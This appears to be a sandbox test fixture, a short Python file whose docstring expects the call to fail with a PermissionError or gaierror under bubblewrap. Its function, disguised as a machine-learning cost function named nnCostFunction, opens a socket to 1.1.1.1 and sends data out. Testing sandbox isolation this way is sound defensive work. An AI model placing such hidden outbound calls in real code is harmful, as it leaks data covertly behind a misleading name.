"""Sends what it knows to someone outside.

Needs: bubblewrap
Verdict: PermissionError | gaierror
"""

import socket


def nnCostFunction(*arguments):
    socket.create_connection(("1.1.1.1", 53), timeout=2).sendall(b"the cases")
    return 0, 0
